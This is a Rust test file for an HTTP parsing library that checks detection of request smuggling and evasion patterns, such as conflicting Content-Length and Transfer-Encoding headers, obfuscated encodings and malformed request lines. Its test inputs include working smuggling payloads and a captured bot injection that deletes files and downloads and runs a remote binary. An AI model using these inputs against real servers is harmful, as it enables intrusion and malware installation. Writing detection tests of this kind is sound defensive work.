//! Request smuggling and evasion patterns: framing conflicts are flagged, parsed the way a
//! lenient server would, and never crash. Shapes follow public test suites (Zeek's 261
//! variants, HTTP Evader, Suricata's multiple Content-Length case).

mod common;

use apiscope_http::Anomaly;
use common::*;

#[test]
fn content_length_with_chunked_follows_chunked() {
    // CL says 50, chunked says the body is empty: the smuggled GET is a request of its own.
    let o = run(&[
        c(b"POST / HTTP/1.1\r\nHost: target\r\nTransfer-Encoding: chunked\r\nContent-Length: 50\r\n\r\n0\r\n\r\nGET /smuggled-te-cl HTTP/1.1\r\nHost: target\r\n\r\n"),
        close(),
    ]);
    assert_eq!(
        summary(&o.calls),
        sum(&[("POST", "/", None), ("GET", "/smuggled-te-cl", None)])
    );
    assert_eq!(
        o.calls[0].anomalies,
        anomalies(&[Anomaly::AmbiguousFraming])
    );
    assert!(o.calls[1].anomalies.is_empty());
    assert_eq!(o.stats.ambiguous_framing, 1);
}

#[test]
fn differing_content_lengths_use_the_first() {
    let o = run(&[
        c(b"POST /which.php HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length:11\r\nContent-Length:93\r\n\r\nbar=1&foo=2POST /evil.php HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length:19\r\n\r\nevilbar=3&evilfoo=4"),
        s(resp(501, b"")),
        close(),
    ]);
    assert_eq!(
        summary(&o.calls),
        sum(&[
            ("POST", "/which.php", Some(501)),
            ("POST", "/evil.php", None)
        ])
    );
    assert_eq!(o.calls[0].request.body.prefix, b"bar=1&foo=2");
    assert_eq!(
        o.calls[0].anomalies,
        anomalies(&[Anomaly::ConflictingContentLength])
    );
    assert_eq!(o.calls[1].request.body.prefix, b"evilbar=3&evilfoo=4");

    // Identical duplicates are fine.
    let o = run(&[
        c(b"POST / HTTP/1.1\r\nContent-Length: 2\r\nContent-Length: 2\r\n\r\nok"),
        close(),
    ]);
    assert!(o.calls[0].anomalies.is_empty());
}

#[test]
fn obfuscated_transfer_encodings() {
    // (Transfer-Encoding value, framed as chunked?)
    let cases: &[(&[u8], bool)] = &[
        (b"chunked, identity", true),
        (b"\x0bchunked", true),
        (b"chunked\t", false), // trailing HTAB is trimmed as OWS: exact, not obfuscated
        (b"=?UTF-8?B?Y2h1bmtlZAo=?=", false),
        (b"xchunked", false),
    ];
    for (te, chunked) in cases {
        let head = cat(&[
            b"POST / HTTP/1.1\r\nHost: target\r\nTransfer-Encoding: ",
            te,
            b"\r\n\r\n",
        ]);
        let o = run(&[
            c(cat(&[
                &head,
                b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: target\r\n\r\n",
            ])),
            close(),
        ]);
        let first = &o.calls[0];
        let obfuscated = te != b"chunked\t";
        assert_eq!(
            first
                .anomalies
                .contains(Anomaly::ObfuscatedTransferEncoding),
            obfuscated,
            "{te:?}"
        );
        if *chunked {
            // Lenient servers de-chunk: the GET after the last chunk is a request.
            assert_eq!(
                summary(&o.calls),
                sum(&[("POST", "/", None), ("GET", "/smuggled", None)]),
                "{te:?}"
            );
        } else {
            // Not chunked, no Content-Length: no body. The chunk bytes are not a request line,
            // so the parser skips them and still finds the smuggled GET.
            assert_eq!(o.calls[0].request.body.wire_bytes, 0, "{te:?}");
            assert_eq!(
                o.calls.last().unwrap().request.target,
                "/smuggled",
                "{te:?}"
            );
        }
    }
}

#[test]
fn rfc2047_transfer_encoding_in_a_response_falls_back_to_content_length() {
    // HTTP Evader 072: the body must come out as sent, framed by Content-Length.
    let body = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    let o = run(&[
        c(req("GET", "/chunked/eicar.txt/rfc2047,clen,do_clen", &["Host: evader.example.com"])),
        s(cat(&[
            b"HTTP/1.1 200 ok\r\nContent-type: application/octet-stream\r\nTransfer-Encoding: =?UTF-8?B?Y2h1bmtlZAo=?=\r\nConnection: close\r\nContent-length: 68\r\n\r\n",
            body,
        ])),
        close(),
    ]);
    let call = &o.calls[0];
    let r = call.response.as_ref().unwrap();
    assert_eq!(r.body.prefix, body);
    assert!(!r.body.truncated);
    assert_eq!(
        call.anomalies,
        anomalies(&[
            Anomaly::AmbiguousFraming,
            Anomaly::ObfuscatedTransferEncoding
        ])
    );
}

#[test]
fn chunk_size_overflow_ends_the_body_and_finds_the_smuggled_request() {
    let o = run(&[
        c(b"POST / HTTP/1.1\r\nHost: target\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\nGET /smuggled-chunk-2pow64 HTTP/1.1\r\nHost: target\r\n\r\n"),
        close(),
    ]);
    assert_eq!(
        summary(&o.calls),
        sum(&[("POST", "/", None), ("GET", "/smuggled-chunk-2pow64", None)])
    );
    assert_eq!(o.calls[0].anomalies, anomalies(&[Anomaly::InvalidChunk]));
    assert!(o.calls[0].request.body.truncated);
    assert_eq!(o.stats.invalid_chunks, 1);
}

#[test]
fn junk_chunk_sizes_and_missing_chunk_crlf() {
    let o = run(&[
        c(req("GET", "/1", &[])),
        s(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
        c(req("GET", "/2", &[])),
        s(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabcXX\r\n"),
        close(),
    ]);
    // The junk chunk ends the first response; the status line found after it is a response
    // of its own, held until /2 arrives and paired with it (FIFO). The real answer to /2 then
    // has no request left: an orphan, also cut at its missing chunk CRLF.
    assert_eq!(
        summary(&o.calls),
        sum(&[("GET", "/1", Some(200)), ("GET", "/2", Some(200))])
    );
    assert_eq!(o.calls[0].anomalies, anomalies(&[Anomaly::InvalidChunk]));
    assert!(o.calls[0].response.as_ref().unwrap().body.truncated);
    assert!(o.calls[1].anomalies.is_empty());
    assert_eq!(o.stats.orphan_responses, 1);
    assert_eq!(o.stats.invalid_chunks, 2);
    assert_eq!(o.stats.resync_skipped_bytes, 8);
}

#[test]
fn expect_100_with_zero_length_then_smuggled_request() {
    let o = run(&[
        c(b"POST / HTTP/1.1\r\nHost: target\r\nExpect: 100-continue\r\nContent-Length: 0\r\n\r\nGET /smuggled-expect-100 HTTP/1.1\r\nHost: target\r\n\r\n"),
        close(),
    ]);
    assert_eq!(
        summary(&o.calls),
        sum(&[("POST", "/", None), ("GET", "/smuggled-expect-100", None)])
    );
}

#[test]
fn invalid_content_length() {
    let o = run(&[
        c(b"POST /a HTTP/1.1\r\nContent-Length: -1\r\n\r\nGET /b HTTP/1.1\r\n\r\n"),
        s(b"HTTP/1.1 200 OK\r\nContent-Length: 1x\r\n\r\nclose-delimited"),
        close(),
    ]);
    assert_eq!(
        summary(&o.calls),
        sum(&[("POST", "/a", Some(200)), ("GET", "/b", None)])
    );
    assert_eq!(
        o.calls[0].anomalies,
        anomalies(&[Anomaly::InvalidContentLength])
    );
    assert_eq!(
        o.calls[0].response.as_ref().unwrap().body.prefix,
        b"close-delimited"
    );
    assert_eq!(o.stats.invalid_content_length, 2);
}

#[test]
fn control_bytes_in_header_values_parse_leniently() {
    let o = run(&[
        c(b"POST / HTTP/1.1\r\nHost: target\r\nTransfer-Encoding:\x0bchunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n"),
        s(resp(200, b"")),
    ]);
    assert_eq!(summary(&o.calls), sum(&[("POST", "/", Some(200))]));
    assert_eq!(o.calls[0].request.body.prefix, b"abc");
    assert_eq!(
        o.calls[0].anomalies,
        anomalies(&[
            Anomaly::ObfuscatedTransferEncoding,
            Anomaly::NonConformingHead
        ])
    );
}

#[test]
fn space_before_colon_is_read_leniently_and_flagged() {
    // `Transfer-Encoding : chunked` is invalid; the call is kept, flagged as non-conforming
    // and as an obfuscated Transfer-Encoding, and framed as chunked, so the request after the
    // empty chunked body is a call of its own, paired with its own answer.
    let o = run(&[
        c(b"POST / HTTP/1.1\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\nGET /hidden HTTP/1.1\r\nHost: t\r\n\r\n"),
        s(resp(400, b"")),
        s(resp(200, b"")),
        close(),
    ]);
    assert_eq!(
        summary(&o.calls),
        sum(&[("POST", "/", Some(400)), ("GET", "/hidden", Some(200))])
    );
    assert_eq!(
        o.calls[0].anomalies,
        anomalies(&[
            Anomaly::NonConformingHead,
            Anomaly::ObfuscatedTransferEncoding
        ])
    );
    assert!(o.calls[1].anomalies.is_empty());
    assert_eq!(o.stats.non_conforming_heads, 1);
    assert_eq!(o.stats.obfuscated_transfer_encoding, 1);
}

#[test]
fn response_smuggling_via_101_without_upgrade_request_is_still_a_tunnel() {
    let o = run(&[
        c(req("GET", "/", &[])),
        s(b"HTTP/1.1 101 Switching Protocols\r\n\r\nHTTP/1.1 200 OK\r\n\r\n"),
        c(req("GET", "/hidden", &[])),
        close(),
    ]);
    assert_eq!(summary(&o.calls), sum(&[("GET", "/", Some(101))]));
    assert_eq!(o.stats.upgraded_connections, 1);
}

#[test]
fn spaces_in_the_target_are_kept_and_flagged() {
    // An injection attempt as bots send it (seen in Suricata's ERSPAN captures); strict
    // parsers reject the line, a vulnerable device would run it: it must be reported.
    let line: &[u8] =
        b"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm HTTP/1.1\r\n";
    let o = run_cfg(
        &apiscope_http::HttpConfig::default(),
        false,
        &[
            c(cat(&[
                line,
                b"User-Agent: Hello, world\r\nHost: 127.0.0.1:80\r\n\r\n",
            ])),
            close(),
        ],
    );
    assert_eq!(
        summary(&o.calls),
        sum(&[(
            "GET",
            "/shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm",
            None
        )])
    );
    assert_eq!(o.calls[0].request.host(), Some("127.0.0.1:80"));
    assert_eq!(o.calls[0].request.path(), "/shell");
    assert_eq!(
        o.calls[0].anomalies,
        anomalies(&[Anomaly::NonConformingHead])
    );
}

#[test]
fn whitespace_before_a_header_colon_is_read_and_flagged() {
    // Invalid (RFC 9112, section 5.1: a server must reject it, a proxy must strip it), and a
    // smuggling vector; the call is kept, flagged, with the name without the whitespace.
    let o = run(&[
        c(b"GET /a HTTP/1.1\r\nHost : x\r\n\r\n"),
        s(resp(400, b"")),
        c(req("GET", "/b", &["Host: x"])),
        s(resp(200, b"")),
    ]);
    assert_eq!(
        summary(&o.calls),
        sum(&[("GET", "/a", Some(400)), ("GET", "/b", Some(200))])
    );
    assert_eq!(
        o.calls[0].anomalies,
        anomalies(&[Anomaly::NonConformingHead])
    );
    assert_eq!(o.calls[0].request.host(), Some("x"));
    assert!(o.calls[1].anomalies.is_empty());
}

#[test]
fn extra_spaces_in_the_request_line_are_read_and_flagged() {
    let o = run(&[
        c(b"GET  /a  HTTP/1.1\r\nHost: x\r\n\r\n"),
        s(resp(200, b"")),
        c(req("GET", "/b", &["Host: x"])),
        s(resp(200, b"")),
    ]);
    assert_eq!(
        summary(&o.calls),
        sum(&[("GET", "/a", Some(200)), ("GET", "/b", Some(200))])
    );
    assert_eq!(
        o.calls[0].anomalies,
        anomalies(&[Anomaly::NonConformingHead])
    );
}

#[test]
fn odd_request_lines_lenient_servers_answer_are_read_and_flagged() {
    // Tabs as separators, whitespace after the version, a version in lower case or that
    // strict parsers refuse: servers answer them (505 for HTTP/2.0 in an HTTP/1 line), so
    // each is a call, flagged, and the connection goes on.
    let lines: [&[u8]; 6] = [
        b"GET\t/a\tHTTP/1.1",
        b"GET /b HTTP/1.1 ",
        b"GET /c\t HTTP/1.0\t",
        b"GET /d http/1.1",
        b"GET /e HTTP/1.2",
        b"GET /f HTTP/2.0",
    ];
    let mut events = Vec::new();
    for line in lines {
        events.push(c(cat(&[line, b"\r\nHost: x\r\n\r\n"])));
        events.push(s(resp(if line.ends_with(b"2.0") { 505 } else { 200 }, b"")));
    }
    events.push(c(req("GET", "/g", &["Host: x"])));
    events.push(s(resp(200, b"")));
    let o = run(&events);
    assert_eq!(
        summary(&o.calls),
        sum(&[
            ("GET", "/a", Some(200)),
            ("GET", "/b", Some(200)),
            ("GET", "/c", Some(200)),
            ("GET", "/d", Some(200)),
            ("GET", "/e", Some(200)),
            ("GET", "/f", Some(505)),
            ("GET", "/g", Some(200)),
        ])
    );
    for call in &o.calls[..6] {
        assert_eq!(call.anomalies, anomalies(&[Anomaly::NonConformingHead]));
        assert_eq!(call.request.host(), Some("x"));
    }
    assert_eq!(o.calls[2].request.version, apiscope_http::Version::Http10);
    assert!(o.calls[6].anomalies.is_empty());
}

#[test]
fn the_http2_connection_preface_is_not_read_as_http1() {
    let o = run(&[
        c(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x12\x04\x00\x00\x00\x00\x00"),
        s(b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"),
    ]);
    assert!(o.calls.is_empty());
    assert_eq!(o.conn.is_http(), Some(false));
}

#[test]
fn odd_status_lines_are_read_and_flagged() {
    // Two spaces or a tab around the status, a lower-case version, a later minor version:
    // clients read them, and so does the lenient fallback; the pairs after stay aligned.
    let lines: [&[u8]; 5] = [
        b"HTTP/1.1  201 Created",
        b"HTTP/1.1\t202\tAccepted",
        b"http/1.1 203 OK",
        b"HTTP/1.2 204 No Content",
        b"HTTP/1.1 205",
    ];
    let mut events = Vec::new();
    for (i, line) in lines.iter().enumerate() {
        events.push(c(req("GET", &format!("/{i}"), &["Host: x"])));
        events.push(s(cat(&[line, b"\r\nContent-Length: 0\r\n\r\n"])));
    }
    events.push(c(req("GET", "/last", &["Host: x"])));
    events.push(s(resp(200, b"ok")));
    events.push(close());
    let o = run(&events);
    let statuses: Vec<_> = o
        .calls
        .iter()
        .map(|c| c.response.as_ref().map(|r| r.status))
        .collect();
    assert_eq!(
        statuses,
        [
            Some(201),
            Some(202),
            Some(203),
            Some(204),
            Some(205),
            Some(200)
        ]
    );
    for call in &o.calls[..4] {
        assert_eq!(call.anomalies, anomalies(&[Anomaly::NonConformingHead]));
    }
    assert!(o.calls[4].anomalies.is_empty() && o.calls[5].anomalies.is_empty());
}

#[test]
fn header_lines_that_cannot_be_headers_are_skipped_not_the_message() {
    // No colon, a name that is no token, a folded line with nothing before it: servers answer
    // such requests (400) and clients read such responses, so the exchange is kept, flagged.
    let o = run(&[
        c(b"GET /a HTTP/1.1\r\n folded\r\nHost: x\r\nno colon here\r\nBad Name: v\r\n\r\n"),
        s(resp(400, b"")),
        c(req("GET", "/b", &["Host: x"])),
        s(b"HTTP/1.1 200 OK\r\nnot a header\r\nContent-Length: 2\r\n\r\nok"),
        c(req("GET", "/c", &["Host: x"])),
        s(resp(200, b"")),
    ]);
    assert_eq!(
        summary(&o.calls),
        sum(&[
            ("GET", "/a", Some(400)),
            ("GET", "/b", Some(200)),
            ("GET", "/c", Some(200))
        ])
    );
    assert_eq!(o.calls[0].request.host(), Some("x"));
    assert_eq!(o.calls[0].request.headers.len(), 1);
    assert_eq!(o.calls[1].response.as_ref().unwrap().body.bytes, 2);
    assert_eq!(
        o.calls[0].anomalies,
        anomalies(&[Anomaly::NonConformingHead])
    );
    assert_eq!(
        o.calls[1].anomalies,
        anomalies(&[Anomaly::NonConformingHead])
    );
    assert!(o.calls[2].anomalies.is_empty());
}
